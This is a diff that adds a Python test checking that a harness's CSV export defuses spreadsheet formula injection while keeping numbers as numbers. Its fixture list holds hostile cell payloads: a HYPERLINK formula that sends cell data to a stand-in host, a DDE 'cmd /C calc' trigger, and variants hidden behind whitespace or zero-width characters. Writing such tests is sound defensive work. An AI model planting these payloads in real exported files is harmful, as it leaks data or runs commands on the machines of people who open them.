@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import os
@@ -21,6 +23,7 @@ from harness.receipt import RunStore
 from harness.recording import dump, recording_path, reseal
 from harness.redaction import SecretGuard
 from harness.reporters import github, html, markdown, terminal
+from harness.reporters._csv_text import Cell, csv_text
 from harness.schema.actor import ActorIdentity
 from harness.schema.base import canonical_json, digest_json, digest_text
 from harness.schema.graph import GraphEdge, GraphNode, RuleGraph
@@ -122,6 +125,38 @@ def spoken(text: str, scenario: str = "demo/first", trial: int = 1, ref: str = "
     made = rec.recording([rec.exchange(1, asked, reply)])
     change = {"scenario": scenario, "scenario_digest": DIGEST, "trial": trial, "actor": actor(ref)}
     return reseal(made.model_copy(update={"header": made.header.model_copy(update=change)}))
+
+
+D010_CELLS = [
+    '=HYPERLINK("https://evil.example.test?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\u200b=1",
+    " =1",
+    "-12.5",
+    "-Infinity",
+    'a,b"c\nd',
+]
+D010_NUMBERS = [-12.5, 3]
+
+
+def test_d010_a_cell_of_text_is_no_formula_and_a_number_stays_one() -> None:
+    head = [f"column {number}" for number in range(len(D010_CELLS) + len(D010_NUMBERS))]
+    row: dict[str, Cell] = dict(zip(head, [*D010_CELLS, *D010_NUMBERS], strict=True))
+    text = csv_text(head, [row])
+
+    found_head, found = csv.reader(io.StringIO(text, newline=""))
+    assert found_head == head
+    for cell in found[:10]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        shown = cell.lstrip("\u200b\u200c\u200d\u2060\ufeff\ufffd \t\r\n\xa0")
+        assert not shown.startswith(("=", "+", "-", "@"))
+    assert found[10] == 'a,b"c\nd'
+    assert found[11:] == ["-12.5", "3"]
+    assert [float(cell) for cell in found[11:]] == D010_NUMBERS
 
 
 @pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf])
